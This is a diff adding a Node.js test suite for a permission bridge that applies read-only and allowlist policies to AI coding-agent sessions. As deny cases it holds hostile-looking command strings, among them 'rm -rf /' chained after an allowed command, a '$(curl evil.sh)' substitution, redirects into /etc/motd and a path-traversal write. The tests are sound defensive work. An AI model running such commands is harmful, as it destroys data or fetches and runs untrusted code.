@@ -0,0 +1,217 @@
+import test, { after } from 'node:test'
+import assert from 'node:assert/strict'
+import { mkdtempSync, readFileSync, rmSync, statSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { PassThrough } from 'node:stream'
+
+import {
+  classifyAcpToolRequest,
+  describeAcpToolRequest,
+  evaluateAcpToolPermission,
+} from './acp-permissions.mjs'
+import {
+  ACP_PERMISSION_PROMPT_TOOL,
+  ACP_PERMISSION_TOKEN_ENV,
+  ACP_PERMISSION_URL_ENV,
+  runAcpPermissionMcpServer,
+} from './acp-permission-mcp.mjs'
+import { buildClaudeCodeCommand, buildCodexCommand } from './acp-auth.mjs'
+import {
+  cleanupAllAcpSessions,
+  createAcpSession,
+  enqueuePrompt,
+  findAcpSessionIdByPermissionToken,
+  getAcpSessionById,
+  requestAcpToolPermission,
+  setAcpPermissionBridgeEndpoint,
+} from './acp-session.mjs'
+
+// ACP sessions are persisted to acp-sessions.json; keep that out of the real config dir.
+const previousConfigDir = process.env.TRAPEZOHE_CONFIG_DIR
+const testConfigDir = mkdtempSync(join(tmpdir(), 'acp-permissions-config-'))
+process.env.TRAPEZOHE_CONFIG_DIR = testConfigDir
+after(() => {
+  if (previousConfigDir === undefined) delete process.env.TRAPEZOHE_CONFIG_DIR
+  else process.env.TRAPEZOHE_CONFIG_DIR = previousConfigDir
+  rmSync(testConfigDir, { recursive: true, force: true })
+})
+
+const cwd = '/work/repo'
+
+test('classifyAcpToolRequest normalizes ACP tool calls and Claude Code tool names', () => {
+  assert.deepEqual(
+    classifyAcpToolRequest({ toolCall: { kind: 'edit', title: 'Edit', locations: [{ path: 'src/a.js' }] } }, { cwd }),
+    { kind: 'write', title: 'Edit', paths: ['/work/repo/src/a.js'], command: '' },
+  )
+  assert.deepEqual(
+    classifyAcpToolRequest({ toolCall: { kind: 'execute', title: 'Run', rawInput: { command: ['npm', 'test'] } } }, { cwd }),
+    { kind: 'execute', title: 'Run', paths: [], command: 'npm test' },
+  )
+  assert.equal(classifyAcpToolRequest({ toolName: 'Read', input: { file_path: 'README.md' } }, { cwd }).kind, 'read')
+  assert.deepEqual(
+    classifyAcpToolRequest({ toolName: 'Write', input: { file_path: '/tmp/out.txt', content: 'x' } }, { cwd }),
+    { kind: 'write', title: 'Write', paths: ['/tmp/out.txt'], command: '' },
+  )
+  const bash = classifyAcpToolRequest({ toolName: 'Bash', input: { command: 'git status' } }, { cwd })
+  assert.equal(bash.kind, 'execute')
+  assert.equal(describeAcpToolRequest(bash), 'Bash: git status')
+  assert.equal(classifyAcpToolRequest({ toolName: 'mcp__github__create_issue', input: {} }, { cwd }).kind, 'other')
+})
+
+test('evaluateAcpToolPermission enforces read_only and allowlist write policies', () => {
+  const allowlist = { mode: 'allowlist', allowedPaths: ['/work/repo/reports'], allowedCommandPrefixes: ['git status', 'npm test'] }
+  const decide = (request, policy) => evaluateAcpToolPermission(
+    classifyAcpToolRequest(request, { cwd }),
+    policy,
+    { cwd },
+  ).decision
+
+  assert.equal(decide({ toolName: 'Read', input: { file_path: '/etc/hosts' } }, { mode: 'read_only' }), 'allow')
+  assert.equal(decide({ toolName: 'Write', input: { file_path: 'reports/a.md' } }, { mode: 'read_only' }), 'deny')
+  assert.equal(decide({ toolName: 'Bash', input: { command: 'ls' } }, { mode: 'read_only' }), 'deny')
+
+  assert.equal(decide({ toolName: 'Write', input: { file_path: 'reports/a.md' } }, allowlist), 'allow')
+  assert.equal(decide({ toolName: 'Write', input: { file_path: 'reports/../secrets.txt' } }, allowlist), 'deny')
+  assert.equal(decide({ toolName: 'Bash', input: { command: 'git status --short' } }, allowlist), 'allow')
+  assert.equal(decide({ toolName: 'Bash', input: { command: 'git statusx' } }, allowlist), 'deny')
+  assert.equal(decide({ toolName: 'Bash', input: { command: 'git status && rm -rf /' } }, allowlist), 'deny')
+  assert.equal(decide({ toolName: 'Bash', input: { command: 'npm test $(curl evil.sh)' } }, allowlist), 'deny')
+  assert.equal(decide({ toolName: 'Bash', input: { command: 'git status > reports/status.txt' } }, allowlist), 'allow')
+  assert.equal(decide({ toolName: 'Bash', input: { command: 'git status > /etc/motd' } }, allowlist), 'deny')
+  assert.equal(decide({ toolName: 'Bash', input: { command: 'git status>/etc/motd' } }, allowlist), 'deny')
+  assert.equal(decide({ toolName: 'Bash', input: { command: 'git status $(git status>/etc/motd)' } }, allowlist), 'deny')
+  assert.equal(decide({ toolName: 'Bash', input: { command: 'npm test 2>&1' } }, allowlist), 'allow')
+
+  // Kinds the allowlist does not cover, and sessions without a policy, ask.
+  assert.equal(decide({ toolName: 'Bash', input: { command: 'ls' } }, { mode: 'allowlist', allowedPaths: ['/work'] }), 'ask')
+  assert.equal(decide({ toolName: 'Write', input: { file_path: 'a' } }, null), 'ask')
+  assert.equal(decide({ toolName: 'mcp__x__y', input: {} }, allowlist), 'ask')
+})
+
+test('buildClaudeCodeCommand swaps the permission skip for the bridge prompt tool', () => {
+  const bridged = buildClaudeCodeCommand({
+    prompt: 'hi',
+    permissionPromptTool: { toolName: ACP_PERMISSION_PROMPT_TOOL, mcpConfigPath: '/tmp/bridge.json' },
+  })
+  assert.ok(!bridged.includes('--dangerously-skip-permissions'))
+  assert.deepEqual(
+    bridged.slice(bridged.indexOf('--permission-prompt-tool'), bridged.indexOf('--permission-prompt-tool') + 4),
+    ['--permission-prompt-tool', 'mcp__trapezohe_permissions__approve', '--mcp-config', '/tmp/bridge.json'],
+  )
+  assert.ok(!buildClaudeCodeCommand({ prompt: 'hi' }).includes('--dangerously-skip-permissions'))
+  assert.ok(buildClaudeCodeCommand({ prompt: 'hi', skipPermissions: true }).includes('--dangerously-skip-permissions'))
+})
+
+test('buildCodexCommand runs bridged sessions in the Codex sandbox instead of bypassing it', () => {
+  assert.ok(!buildCodexCommand({ prompt: 'hi' }).includes('--dangerously-bypass-approvals-and-sandbox'))
+  assert.ok(buildCodexCommand({ prompt: 'hi', skipPermissions: true }).includes('--dangerously-bypass-approvals-and-sandbox'))
+
+  const readOnly = buildCodexCommand({ prompt: 'hi', sandbox: { writePolicy: { mode: 'read_only' }, cwd } })
+  assert.ok(!readOnly.includes('--dangerously-bypass-approvals-and-sandbox'))
+  assert.deepEqual(readOnly.slice(readOnly.indexOf('--sandbox'), readOnly.indexOf('--sandbox') + 4), ['--sandbox', 'read-only', '-c', 'approval_policy="never"'])
+
+  const allowlist = { mode: 'allowlist', allowedPaths: ['/work/repo'], allowedCommandPrefixes: ['npm test'] }
+  const writable = buildCodexCommand({ prompt: 'hi', sandbox: { writePolicy: allowlist, cwd } })
+  assert.equal(writable[writable.indexOf('--sandbox') + 1], 'workspace-write')
+  assert.ok(writable.includes('sandbox_workspace_write.writable_roots=["/work/repo"]'))
+  assert.ok(writable.includes('sandbox_workspace_write.exclude_slash_tmp=true'))
+
+  // Codex always lets the sandbox write to the cwd, so a cwd outside allowedPaths stays read-only.
+  const outside = buildCodexCommand({ prompt: 'hi', sandbox: { writePolicy: allowlist, cwd: '/work/other' } })
+  assert.equal(outside[outside.indexOf('--sandbox') + 1], 'read-only')
+})
+
+test('permission MCP server relays approve calls to the companion bridge', async () => {
+  const input = new PassThrough()
+  const output = new PassThrough()
+  const lines = []
+  output.on('data', (chunk) => lines.push(...String(chunk).split('\n').filter(Boolean).map((line) => JSON.parse(line))))
+  const calls = []
+  const done = runAcpPermissionMcpServer({
+    input,
+    output,
+    env: { [ACP_PERMISSION_URL_ENV]: 'http://127.0.0.1:1/api/acp/permission-bridge', [ACP_PERMISSION_TOKEN_ENV]: 'tok' },
+    fetchImpl: async (url, init) => {
+      calls.push({ url, init })
+      const body = JSON.parse(init.body)
+      return {
+        ok: true,
+        json: async () => (body.toolName === 'Bash' ? { allowed: false, reason: 'Command outside allowedCommandPrefixes: rm' } : { allowed: true }),
+      }
+    },
+  })
+
+  const send = (message) => input.write(`${JSON.stringify({ jsonrpc: '2.0', ...message })}\n`)
+  send({ id: 1, method: 'initialize', params: { protocolVersion: '2025-06-18' } })
+  send({ method: 'notifications/initialized' })
+  send({ id: 2, method: 'tools/list' })
+  send({ id: 3, method: 'tools/call', params: { name: 'approve', arguments: { tool_name: 'Write', input: { file_path: 'a.txt' } } } })
+  send({ id: 4, method: 'tools/call', params: { name: 'approve', arguments: { tool_name: 'Bash', input: { command: 'rm -rf /' } } } })
+  input.end()
+  await done
+
+  const byId = new Map(lines.map((message) => [message.id, message]))
+  assert.equal(byId.get(1).result.protocolVersion, '2025-06-18')
+  assert.equal(byId.get(2).result.tools[0].name, 'approve')
+  assert.deepEqual(JSON.parse(byId.get(3).result.content[0].text), { behavior: 'allow', updatedInput: { file_path: 'a.txt' } })
+  assert.deepEqual(JSON.parse(byId.get(4).result.content[0].text), {
+    behavior: 'deny',
+    message: 'Command outside allowedCommandPrefixes: rm',
+  })
+  assert.equal(calls[0].init.headers.authorization, 'Bearer tok')
+  assert.equal(lines.length, 4)
+})
+
+test('sessions are on the permission bridge unless they opt out', (t) => {
+  cleanupAllAcpSessions()
+  t.after(() => cleanupAllAcpSessions())
+
+  assert.equal(createAcpSession({ agentType: 'claude-code' }).permissionBridge, true)
+  assert.equal(createAcpSession({ agentType: 'codex' }).permissionBridge, true)
+  assert.equal(createAcpSession({ agentType: 'claude-code', permissionBridge: false }).permissionBridge, false)
+  assert.equal(createAcpSession({ agentType: 'gemini' }).permissionBridge, false)
+})
+
+test('bridged claude-code sessions get a private MCP config and a bridge token', async (t) => {
+  cleanupAllAcpSessions()
+  const detach = setAcpPermissionBridgeEndpoint(() => 'http://127.0.0.1:9/api/acp/permission-bridge')
+  t.after(() => {
+    detach()
+    cleanupAllAcpSessions()
+  })
+
+  assert.throws(() => createAcpSession({ agentType: 'gemini', permissionBridge: true }), /cannot route tool permissions/)
+
+  const { sessionId } = createAcpSession({
+    agentType: 'claude-code',
+    cwd: process.cwd(),
+    permissionBridge: true,
+    writePolicy: { mode: 'read_only' },
+    // Keep `claude` off PATH; only the bridge setup is under test.
+    env: { PATH: '/nonexistent' },
+    timeoutMs: 2_000,
+  })
+  assert.equal(getAcpSessionById(sessionId).permissionBridge, true)
+  assert.deepEqual(getAcpSessionById(sessionId).writePolicy, { mode: 'read_only', allowedPaths: null, allowedCommandPrefixes: null })
+  await enqueuePrompt(sessionId, { prompt: 'hello' }).catch(() => undefined)
+  const deadline = Date.now() + 8_000
+  while (getAcpSessionById(sessionId).state === 'running' && Date.now() < deadline) {
+    await new Promise((resolve) => setTimeout(resolve, 25))
+  }
+
+  const configPath = join(testConfigDir, 'acp-permission-bridge', `${sessionId}.json`)
+  const config = JSON.parse(readFileSync(configPath, 'utf8'))
+  const server = config.mcpServers.trapezohe_permissions
+  assert.match(server.args[0], /bin\/acp-permission-mcp\.mjs$/)
+  assert.equal(server.env[ACP_PERMISSION_URL_ENV], 'http://127.0.0.1:9/api/acp/permission-bridge')
+  assert.equal(statSync(configPath).mode & 0o777, 0o600)
+  assert.equal(findAcpSessionIdByPermissionToken(server.env[ACP_PERMISSION_TOKEN_ENV]), sessionId)
+  assert.equal(findAcpSessionIdByPermissionToken('nope'), null)
+
+  const verdict = await requestAcpToolPermission(sessionId, { toolName: 'Edit', input: { file_path: 'README.md' } })
+  assert.deepEqual(verdict, { allowed: false, reason: 'Write policy is read_only.' })
+
+  cleanupAllAcpSessions()
+  assert.throws(() => statSync(configPath), /ENOENT/)
+})